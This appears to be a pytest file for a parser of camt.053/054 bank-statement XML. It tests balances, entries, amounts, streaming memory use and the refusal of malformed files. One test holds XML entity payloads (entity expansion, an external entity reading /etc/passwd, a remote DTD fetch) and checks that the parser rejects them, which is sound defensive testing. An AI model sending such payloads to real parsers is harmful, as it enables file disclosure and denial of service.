"""camt.053 and camt.054: every value in its place, every fault refused with its line."""

import tracemalloc
from dataclasses import replace
from datetime import date
from io import BytesIO
from xml.sax.saxutils import escape

import pytest
from hypothesis import given
from hypothesis import strategies as st

from storno.banking.amount import NoAmount, read_amount, written_amount
from storno.banking.camt import read_camt
from storno.banking.entry import Balance, Entry, Returned, Statement
from storno.banking.unreadable import Unreadable
from tests.banking.messages import (
    ACCOUNT,
    all_of,
    amount,
    balance,
    detail,
    entries_of,
    entry,
    message,
    statement,
    tag,
)
from tests.properties.depth import proof

PAYER = tag(
    "RltdPties",
    tag("Dbtr", tag("Pty", tag("Nm", "Aino Aalto"))),
    tag("DbtrAcct", tag("Id", tag("IBAN", "FI58 1017 1000 0001 22"))),
    tag("Cdtr", tag("Pty", tag("Nm", "Practice"))),
    tag("CdtrAcct", tag("Id", tag("IBAN", ACCOUNT))),
)
REFERENCE = tag("Strd", tag("CdtrRefInf", tag("Ref", "1232")))
PAID = entry(
    "12.30",
    detail(
        tag("Refs", tag("AcctSvcrRef", "A-1"), tag("EndToEndId", "E-1")),
        PAYER,
        tag("RmtInf", tag("Ustrd", "for"), tag("Ustrd", " two visits"), REFERENCE),
    ),
)
BOOKED = date(2026, 11, 20)
READ = Entry(
    account=ACCOUNT,
    key="A-1 2026-11-20 1230",
    booked_on=BOOKED,
    amount_minor=1230,
    currency="EUR",
    reference="1232",
    text="for two visits",
    party="Aino Aalto",
    party_account="FI5810171000000122",
    end_to_end="E-1",
)


def test_a_statement_is_read_with_its_balances_and_entries() -> None:
    fee = entry("2", side="DBIT", more=tag("AddtlNtryInf", "Service fee"))
    pending = entry("99.00", status="PDNG")
    balances = balance("OPBD", "5", "DBIT"), balance("CLBD", "5.3")
    assert all_of(
        message(statement(*balances, PAID, pending, fee), statement(id="S2")),
    ) == [
        Statement("camt.053.001.08", "S1", ACCOUNT, "", Balance(-500, "EUR"), Balance(530, "EUR")),
        READ,
        Entry(ACCOUNT, "S1/1#3 2026-11-20 -200", BOOKED, -200, "EUR", text="Service fee"),
        Statement("camt.053.001.08", "S2", ACCOUNT, ""),
    ]


@pytest.mark.parametrize("version", range(2, 14))
def test_every_version_says_the_same(version: int) -> None:
    new = statement(PAID, name="Ntfctn")
    old = new.replace("<Pty>", "").replace("</Pty>", "")
    old = old.replace("<Sts><Cd>BOOK</Cd></Sts>", "<Sts>BOOK</Sts>")
    old = old.replace("<Dt>2026-11-20</Dt>", "<DtTm>2026-11-20T23:59:00+02:00</DtTm>")
    for written in (old, new):
        assert entries_of(message(written, kind=f"camt.054.001.{version:02}")) == [READ]


def test_a_batch_comes_as_its_transactions_where_they_add_up_to_it() -> None:
    parts = [
        detail(amount("10.00"), tag("RmtInf", REFERENCE)),
        detail(tag("AmtDtls", tag("TxAmt", amount("2.30"))), PAYER),
    ]
    batch = message(statement(entry("12.30", *parts, bank_id="B-1")))
    other = "Aino Aalto", "FI5810171000000122"
    assert entries_of(batch) == [
        Entry(ACCOUNT, "B-1.1 2026-11-20 1000", BOOKED, 1000, "EUR", reference="1232"),
        Entry(ACCOUNT, "B-1.2 2026-11-20 230", BOOKED, 230, "EUR", "", "", *other),
    ]
    whole = Entry(ACCOUNT, "B-1 2026-11-20 1231", BOOKED, 1231, "EUR")
    assert entries_of(batch.replace(b"12.30", b"12.31")) == [whole]


def test_what_one_bank_id_is_given_to_keeps_keys_of_its_own() -> None:
    fee = entry("0.50", side="DBIT", bank_id="B-1")
    named = detail(tag("Refs", tag("AcctSvcrRef", "B-1")), amount("1"))
    both = entries_of(message(statement(entry("2", named, named, bank_id="B-1"), fee)))
    keys = ["B-1.1 2026-11-20 100", "B-1.2 2026-11-20 100", "B-1 2026-11-20 -50"]
    assert [each.key for each in both] == keys


def test_a_return_and_a_reversal_name_the_other_party() -> None:
    sent = PAYER.replace("Dbtr", "X").replace("Cdtr", "Dbtr").replace("X", "Cdtr")
    back = detail(
        tag("Refs", tag("EndToEndId", "R-7")), sent, tag("RtrInf", tag("Rsn", tag("Cd", "AC04")))
    )
    taken = entry("12.30", detail(PAYER), side="DBIT", more=tag("RvslInd", "true"))
    returned, reversed_ = entries_of(message(statement(entry("40", back), taken)))
    assert returned.returned == Returned("R-7", "AC04")
    assert (returned.amount_minor, returned.party) == (4000, "Aino Aalto")
    assert (reversed_.amount_minor, reversed_.is_reversal) == (-1230, True)
    assert (reversed_.party, reversed_.party_account) == ("Aino Aalto", "FI5810171000000122")


def test_of_several_references_a_person_decides() -> None:
    two = REFERENCE + REFERENCE.replace("1232", "1245")
    (read,) = entries_of(message(statement(entry("3", detail(tag("RmtInf", two))))))
    assert (read.reference, read.text) == ("", "1232 1245")


def test_amounts_keep_to_their_currency() -> None:
    written = [("12.3", "EUR"), ("12.30000", "NOK"), ("7", "JPY"), ("1.5", "KWD")]
    assert [read_amount(*each) for each in written] == [1230, 1230, 7, 1500]
    assert [written_amount(-5, code) for code in ("EUR", "JPY", "KWD")] == ["-0.05", "-5", "-0.005"]
    for forged in ("NaN", "1e9", "-1", "1,00", "", "1.001", "١", "Infinity", "9" * 18, "0x1"):
        with pytest.raises(NoAmount):
            read_amount(forged, "EUR")


WHOLE = message(statement(balance("OPBD", "1"), balance("CLBD", "13.3"), PAID))


@pytest.mark.parametrize(
    ("content", "code", "line"),
    [
        (b"", "empty", 1),
        (b" \n", "empty", 1),
        (b"%PDF-1.7", "unknown_format", 1),
        (b"<html/>", "unknown_format", 1),
        (WHOLE.replace(b"camt.053.001.08", b"camt.052.001.08"), "unknown_format", 2),
        (WHOLE.replace(b"camt.053.001.08", b"camt.053.001.01"), "unknown_version", 2),
        (WHOLE.replace(b"camt.053.001.08", b"camt.053.001.14"), "unknown_version", 2),
        (WHOLE.replace(b"Aino", b"\xc4ino"), "wrong_charset", 4),
        (WHOLE.replace(b"UTF-8", b"nonsense"), "wrong_charset", 1),
        (WHOLE.replace(b"UTF-8", b"UTF-16"), "wrong_charset", 1),
        (WHOLE.replace(b"</Ntry>", b"</Stmt>"), "not_xml", 4),
        (WHOLE.replace(b"Aino", b"A\0ino"), "not_xml", 4),
        (WHOLE + b"<more/>", "not_xml", 4),
        (message(), "missing", 3),
        (WHOLE.replace(b"<Id>S1</Id>", b""), "missing", 3),
        (WHOLE.replace(ACCOUNT.encode(), b"", 1), "missing", 3),
        (WHOLE.replace(ACCOUNT.encode(), b"&lt;b&gt;", 1), "bad_value", 3),
        (WHOLE.replace(b"<Sts><Cd>BOOK</Cd></Sts>", b""), "missing", 4),
        (WHOLE.replace(b"<Dt>2026-11-20</Dt>", b""), "missing", 4),
        (WHOLE.replace(b"2026-11-20", b"2026-02-30"), "bad_day", 4),
        (WHOLE.replace(b"12.30", b"NaN"), "bad_amount", 4),
        (WHOLE.replace(b"12.30", b""), "bad_amount", 4),
        (WHOLE.replace(b'Ccy="EUR">12', b'Ccy="euro">12'), "bad_amount", 4),
        (WHOLE.replace(b"CRDT", b"CREDIT"), "bad_value", 4),
        (WHOLE.replace(b"<Id>S1</Id>", b"<Id>S1</Id><Id>S2</Id>"), "repeated", 3),
        (WHOLE.replace(b"</Stmt>", balance("CLAV", "1").encode() + b"</Stmt>"), "repeated", 4),
        (WHOLE.replace(b"12.30", b"12.31"), "wrong_sum", 4),
        (WHOLE.replace(b"Aino", b"A" * 10_001), "out_of_bounds", 4),
        (WHOLE.replace(b"A-1", b"A" * 141), "out_of_bounds", 4),
        (WHOLE.replace(b"<Ntry>", balance("CLAV", "1").encode() * 99), "out_of_bounds", 4),
        (message(statement(PAID), statement(PAID)), "repeated", 4),
        (WHOLE.replace(b"Aino", b"<a>" * 60 + b"</a>" * 60), "out_of_bounds", 4),
        (WHOLE.replace(b"\n<Stmt>", b"<!--" + b"x" * 2_000_000 + b"-->"), "out_of_bounds", 2),
    ],
    ids=str,
)
def test_a_broken_file_is_refused_with_line_and_reason(
    content: bytes, code: str, line: int
) -> None:
    with pytest.raises(Unreadable) as refused:
        all_of(content)
    assert (refused.value.reason.code, refused.value.line) == (code, line)
    assert str(refused.value).startswith(f"Line {line}: ")


@pytest.mark.parametrize(
    "declared",
    [
        '<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">',
        '<!ENTITY file SYSTEM "file:///etc/passwd">',
        '<!ENTITY % remote SYSTEM "http://198.51.100.1/x.dtd">%remote;',
    ],
)
def test_no_document_type_is_let_in(declared: str) -> None:
    bomb = WHOLE.replace(b"<Document", f"<!DOCTYPE Document [{declared}]><Document".encode())
    with pytest.raises(Unreadable) as refused:
        all_of(bomb)
    assert refused.value.reason.code == "document_type"


def test_a_file_cut_anywhere_is_refused() -> None:
    for end in range(1, len(WHOLE)):
        with pytest.raises(Unreadable) as refused:
            all_of(WHOLE[:end])
        assert refused.value.reason.code == "truncated", end


def test_prefixes_and_character_sets_are_as_xml_has_them() -> None:
    known = all_of(WHOLE)
    prefixed = WHOLE.replace(b"</", b"</n:").replace(b"<", b"<n:").replace(b"<n:/n:", b"</n:")
    assert all_of(prefixed.replace(b"<n:?", b"<?").replace(b"xmlns=", b"xmlns:n=")) == known
    text = WHOLE.decode().replace("Aino", "Åse")
    for name in ("UTF-16", "ISO-8859-1", "UTF-8-SIG", "windows-1252"):
        said = text.replace("UTF-8", name.removesuffix("-SIG"))
        assert isinstance(read := all_of(said.encode(name))[1], Entry)
        assert read.party == "Åse Aalto"


WORDS = st.text(
    st.characters(exclude_categories=["C", "Z"], include_characters=" <&\"'"), max_size=40
).map(lambda text: " ".join(text.split()))
ENTRIES = st.lists(
    st.builds(
        replace,
        st.just(READ),
        amount_minor=st.integers(-(10**10), 10**10),
        booked_on=st.dates(date(1990, 1, 1)),
        reference=WORDS,
        text=WORDS,
        party=WORDS,
    ),
    max_size=4,
)


def written(each: Entry, place: int) -> str:
    """An entry as a bank writes it."""
    side, role = ("CRDT", "Dbtr") if each.amount_minor >= 0 else ("DBIT", "Cdtr")
    return entry(
        written_amount(abs(each.amount_minor), each.currency),
        detail(
            tag("Refs", tag("EndToEndId", each.end_to_end)),
            tag(
                "RltdPties",
                tag(role, tag("Nm", escape(each.party))),
                tag(f"{role}Acct", tag("Id", tag("IBAN", each.party_account))),
            ),
            tag(
                "RmtInf",
                tag("Ustrd", escape(each.text)),
                tag("Strd", tag("CdtrRefInf", tag("Ref", escape(each.reference)))),
            ),
        ),
        side=side,
        bank_id=f"A-{place}",
    ).replace("2026-11-20", each.booked_on.isoformat())


@given(ENTRIES, st.integers(0, 10**10))
@proof(50, 1000)
def test_what_is_written_is_read_again(entries: list[Entry], opening: int) -> None:
    closing = opening + sum(each.amount_minor for each in entries)
    side = "CRDT" if closing >= 0 else "DBIT"
    heads = [
        balance("OPBD", written_amount(opening, "EUR")),
        balance("CLBD", written_amount(abs(closing), "EUR"), side),
    ]
    lines = [written(each, place) for place, each in enumerate(entries)]
    assert all_of(message(statement(*heads, *lines))) == [
        Statement(
            "camt.053.001.08", "S1", ACCOUNT, "", Balance(opening, "EUR"), Balance(closing, "EUR")
        ),
        *(
            replace(each, key=f"A-{place} {each.booked_on} {each.amount_minor}")
            for place, each in enumerate(entries)
        ),
    ]


class Long(BytesIO):
    """A file that is nowhere all at once."""

    def __init__(self, *pieces: str) -> None:
        super().__init__()
        begin, end = message(statement("|")).split(b"|")
        self.rest = [begin, *[piece.encode() for piece in pieces], end]

    def read(self, size: int | None = -1, /) -> bytes:
        return self.rest.pop(0) if self.rest else b""


REST = ["<Cdtr>", PAID.partition("<Cdtr>")[2]]


@pytest.mark.parametrize(
    ("pieces", "entries"),
    [
        ([PAID * 50] * 80, 4_000),
        ([PAID.partition("<Cdtr>")[0], *["<Cdtr><Nm/></Cdtr>" * 500] * 80, *REST], 1),
    ],
    ids=["entries", "elements"],
)
def test_memory_stays_flat_however_much_there_is(pieces: list[str], entries: int) -> None:
    file = Long(*pieces)
    tracemalloc.start()
    try:
        count = sum(1 for _each in read_camt(file))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert count == entries + 1
    assert peak < 2_000_000
